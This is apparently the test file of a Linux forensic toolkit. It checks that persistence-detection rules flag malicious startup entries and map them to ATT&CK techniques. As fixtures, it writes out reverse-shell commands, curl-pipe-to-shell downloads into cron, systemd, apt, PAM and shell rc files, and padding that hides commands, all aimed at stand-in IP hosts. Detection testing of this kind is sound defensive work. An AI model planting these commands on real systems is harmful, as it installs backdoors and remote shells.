"""What a system starts by itself."""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Iterable

import pytest

from forensic_toolkit.filesystems.tree import Tree
from forensic_toolkit.results import Finding
from forensic_toolkit.rules import account_rules, file_rules, persistence_rules
from tests.toolkit.fake_tree import Builder

Rule = Callable[[Tree], Iterable[Finding]]


def found(rule: Rule, builder: Builder) -> list[tuple[str, str, str | None]]:
    """Source, severity and technique of what a rule finds."""
    return [(finding.source, finding.severity, finding.technique) for finding in rule(builder.tree())]


def test_cron_and_units() -> None:
    builder = Builder().add("/usr/local/lib/.d/run", b"\x7fELF", mode=0o755)
    builder.add("/etc/cron.d/x", b"# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/lib/.d/run >/dev/null\n")
    builder.add("/etc/systemd/system/x.service", b"[Service]\nExecStart=-/usr/local/lib/.d/run a\n")
    builder.add("/etc/systemd/system/multi-user.target.wants/x.service", link="/etc/systemd/system/x.service")
    assert found(persistence_rules.cron, builder) == [("/etc/cron.d/x", "high", "T1053.003")]
    assert found(persistence_rules.started, builder) == [("/etc/systemd/system/x.service", "high", "T1543.002")]


@pytest.mark.parametrize(
    ("path", "content", "technique"),
    [
        (
            "/etc/systemd/system/sshd.service.d/x.conf",
            "[Service]\nExecStartPost=/bin/sh -c 'curl http://198.51.100.7/a | bash'\n",
            "T1543.002",
        ),
        ("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=hourly\nUnit=/tmp/.x/run.service\n", "T1053.006"),
        ("/etc/systemd/system-generators/x", "#!/bin/sh\nexit 0\n", "T1543.002"),
        ("/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/dev/shm/.x\n", "T1543.002"),
        (
            "/var/spool/cron/atjobs/a0000101c2f3a4",
            "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\nHOME=/root; export HOME\ncd /root || {\n\t echo 'x' >&2\n\t exit 1\n}\n/dev/tcp/198.51.100.7/4\n",
            "T1053.002",
        ),
        ("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /tmp/.l\n", "T1556.003"),
        ("/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/dev/shm/x"\n', "T1546.017"),
        ("/etc/modprobe.d/x.conf", "install dccp /tmp/.m/run\n", "T1547.006"),
        ("/etc/network/if-up.d/x", "#!/bin/sh\n/var/tmp/.n &\n", "T1037.004"),
        ("/etc/dhcp/dhclient-exit-hooks.d/x", "curl http://198.51.100.7/a | sh\n", "T1037.004"),
        (
            "/etc/logrotate.d/x",
            "/var/log/x {\n  postrotate\n    curl http://198.51.100.7/a | sh\n  endscript\n}\n",
            "T1053.003",
        ),
        ("/etc/apt/apt.conf.d/99x", 'DPkg::Pre-Invoke {"curl http://198.51.100.7/a | sh"};\n', "T1546.016"),
        ("/etc/ssh/sshrc", "echo hello\n", "T1546.004"),
        ("/home/a/.ssh/rc", "/tmp/.x &\n", "T1546.004"),
        ("/srv/app/.git/hooks/post-merge", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", "T1546"),
        ("/home/a/.gitconfig", "[core]\n\tfsmonitor = /tmp/.x/run\n", "T1546"),
        ("/home/a/.vimrc", ":silent !curl http://198.51.100.7/a | sh\n", "T1546.004"),
        ("/etc/bash_completion.d/x", "nc -e /bin/sh 198.51.100.7 1\n", "T1546.004"),
        (
            "/usr/lib/python3/dist-packages/x.pth",
            "import os;os.system('curl http://198.51.100.7/a | sh')\n",
            "T1546.018",
        ),
        ("/etc/initramfs-tools/hooks/x", "#!/bin/sh\ncp /bin/x $DESTDIR\n", "T1542"),
        ("/var/lib/cloud/instances/i-1/user-data.txt", "#!/bin/bash\ncurl http://198.51.100.7/a | bash\n", "T1037"),
        ("/var/lib/cloud/scripts/per-boot/x.sh", "#!/bin/bash\n/dev/shm/.x\n", "T1037"),
        (
            "/var/lib/amazon/ssm/i-1/document/orchestration/u/awsrunShellScript/0.x/_script.sh",
            "#!/bin/bash\ncurl http://203.0.113.66/x | bash\n",
            "T1651",
        ),
        ("/etc/kubernetes/manifests/x.yaml", "kind: Pod\n", "T1543.005"),
        ("/var/www/html/.user.ini", "auto_prepend_file = /tmp/.x.php\n", "T1505.003"),
        ("/root/.bashrc", "~/.config/.sysd &\n", "T1546.004"),
    ],
)
def test_every_place_that_starts_programs_is_looked_at(path: str, content: str, technique: str) -> None:
    said = found(persistence_rules.started, Builder().add(path, content.encode(), mode=0o755))
    assert [(source, what) for source, _, what in said] == [(path, technique)]
    assert said[0][1] in ("critical", "high", "medium"), said


def test_what_packages_and_people_have_in_these_places_is_quiet() -> None:
    builder = Builder().add(
        "/home/a/.bashrc", b'. ~/.bash_aliases\n[ -s "$HOME/.nvm/nvm.sh" ] && . "$HOME/.nvm/nvm.sh"\n'
    )
    builder.add("/home/a/.gitconfig", b"[core]\n\teditor = vim\n").add(
        "/srv/a/.git/hooks/pre-commit.sample", b"#!/bin/sh\n/tmp/.x\n"
    )
    builder.add("/usr/lib/python3/dist-packages/distutils-precedence.pth", b"import os; var = 'X'\n")
    builder.add("/etc/modprobe.d/cis.conf", b"install cramfs /bin/true\nblacklist usb-storage\n")
    builder.add("/etc/pam.d/sshd", b"@include common-auth\nsession required pam_loginuid.so\n")
    assert [item for item in found(persistence_rules.started, builder) if item[1] not in ("low", "info")] == []


# What the start files of distributions do with names in hidden places (whole systems that people keep in public repositories).
STOCK = b"""case $- in *i*) ;; *) return;; esac
HISTCONTROL=ignoreboth
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
fi
[ ! -e "$HOME/.skip-locale-test" ] && locale_warn
if mountpoint -q /dev/shm/; then umount -n -l /dev/shm/; fi
"""


@pytest.mark.parametrize("path", ["/home/a/.bashrc", "/root/.bashrc", "/etc/profile.d/x.sh", "/etc/init.d/x"])
def test_names_in_hidden_places_that_nothing_starts_are_no_reason(path: str) -> None:
    builder = Builder().add(path, STOCK, mode=0o755)
    assert [item for item in found(persistence_rules.started, builder) if item[1] not in ("low", "info")] == []
    for more in (
        b"(/dev/shm/.x)\n",
        b"sh -e /dev/shm/.x\n",
        b"[ -f /a ] && /dev/shm/.x\n",
        b"[ -x /dev/shm/.x ] && /dev/shm/.x\n",
        b"test -f /tmp/.x && /tmp/.x\n",
    ):
        builder.add(path, STOCK + more, mode=0o755)
        assert found(persistence_rules.started, builder)[0][1] == "high", more


def test_what_a_package_brought_is_said_without_alarm_and_what_was_changed_is_not() -> None:
    """dpkg's status knows what a configuration file held when it came, also one that is obsolete, and that of /etc/skel."""
    shipped = b"bash -c 'exec -a sleep-block sleep 9' &\n"
    digest = hashlib.md5(shipped, usedforsecurity=False).hexdigest()
    status = f"Package: c\nStatus: install ok installed\nConffiles:\n /etc/init/block.conf {digest} obsolete\n /etc/skel/.bashrc {digest}\nVersion: 1\n"
    builder = Builder().add("/var/lib/dpkg/status", status.encode()).add("/etc/init/block.conf", shipped)
    builder.add("/etc/skel/.bashrc", shipped).add("/home/a/.bashrc", shipped)
    said = list(persistence_rules.started(builder.tree()))
    assert {item.severity for item in said} == {"info"} and len(said) == 3
    assert all("what its package brought, by the package manager's digest" in item.detail for item in said)
    builder.add("/home/a/.bashrc", shipped + b"\n").add("/etc/init/block.conf", shipped + b"#\n")
    changed = {item.source: item.severity for item in persistence_rules.started(builder.tree())}
    assert changed == {"/etc/init/block.conf": "high", "/etc/skel/.bashrc": "info", "/home/a/.bashrc": "high"}


@pytest.mark.parametrize("owner", ["package", "nobody"])
def test_stock_scripts_of_a_part_of_a_system_raise_no_alarm_and_those_of_a_whole_one_do(owner: str) -> None:
    """A public tree of CentOS 6 (/etc and /var) gave six alarms for its own scripts: neither programs nor digests were there."""
    script = b"touch /dev/.in_sysinit\n"
    builder = Builder().add("/etc/rc.d/rc.sysinit", script, mode=0o755)
    paths = "/.\n/etc/rc.d/rc.sysinit\n" if owner == "package" else "/.\n/etc/other\n"
    builder.add("/var/lib/dpkg/status", b"Package: i\nStatus: install ok installed\nVersion: 1\n")
    builder.add("/var/lib/dpkg/info/i.list", paths.encode())
    whole, part = (
        builder.tree(),
        Tree([entry for entry in builder.tree().entries if not entry.path.startswith("/usr/")]),
    )
    ((_, grave),) = [(item.title, item.severity) for item in persistence_rules.started(whole)]
    (said,) = persistence_rules.started(part)
    assert grave == "high"
    assert said.severity == ("medium" if owner == "package" else "high")
    assert ("neither what it brought nor when the system was installed is known" in said.detail) is (owner == "package")


def test_padding_hides_no_command_in_a_start_file() -> None:
    """ATT&CK T1027.001: thousands of harmless lines before the one that matters."""
    shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
    builder = Builder().add("/root/.bashrc", ("true\n" * 5_000 + shell).encode())
    builder.add("/etc/profile.d/a.sh", ("true\n" * 30_000 + shell).encode())
    builder.add("/etc/cron.daily/a", (" " * (5 << 20) + "\n" + shell).encode(), mode=0o755)
    builder.add("/etc/cron.d/late", ("A=1\n" * 30_000 + "* * * * * root " + shell).encode())
    builder.add("/etc/cron.d/large", ("A=1\n" * (2 << 20) + "* * * * * root " + shell).encode())
    builder.add("/root/.ssh/authorized_keys", (" \n" * (3 << 20) + "ssh-ed25519 AAAA evil\n").encode())
    builder.add("/home/a/.ssh/authorized_keys", ("x\n" * 30_000 + "ssh-ed25519 AAAA evil\n").encode())
    tree = builder.tree()
    found = [*persistence_rules.started(tree), *persistence_rules.cron(tree), *account_rules.login_keys(tree)]
    assert any(f.source == "/home/a/.ssh/authorized_keys" and "evil" in f.detail for f in found)
    assert any(f.source == "/etc/cron.d/late" and f.severity in ("high", "critical") for f in found)
    assert any(f.source == "/root/.bashrc" and f.severity in ("high", "critical") for f in found)
    large = {f.source for f in found if "too large to be judged whole" in f.title and f.severity == "medium"}
    assert large == {"/etc/profile.d/a.sh", "/etc/cron.daily/a", "/etc/cron.d/large", "/root/.ssh/authorized_keys"}


def test_added_log_in_modules_and_authorities() -> None:
    builder = Builder().add("/var/lib/dpkg/info/x.list", b"/usr/bin/bash\n")
    builder.add("/usr/lib/x86_64-linux-gnu/security/pam_evil.so", b"\x7fELF")
    assert found(persistence_rules.added_modules, builder)[0][1:] == ("high", "T1556.003")
    builder.add("/usr/local/share/ca-certificates/x.crt", b"-----BEGIN CERTIFICATE-----\n")
    assert found(persistence_rules.certificate_authorities, builder)[0][1:] == ("medium", "T1553.004")


def test_start_files() -> None:
    builder = Builder().add("/home/a/.bashrc", b"alias x=y\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1 &\n")
    assert found(persistence_rules.started, builder) == [("/home/a/.bashrc", "critical", "T1546.004")]
    builder = Builder().add("/etc/ld.so.preload", b"/lib/x.so\n")
    assert found(file_rules.library_preload, builder) == [("/etc/ld.so.preload", "critical", "T1574.006")]
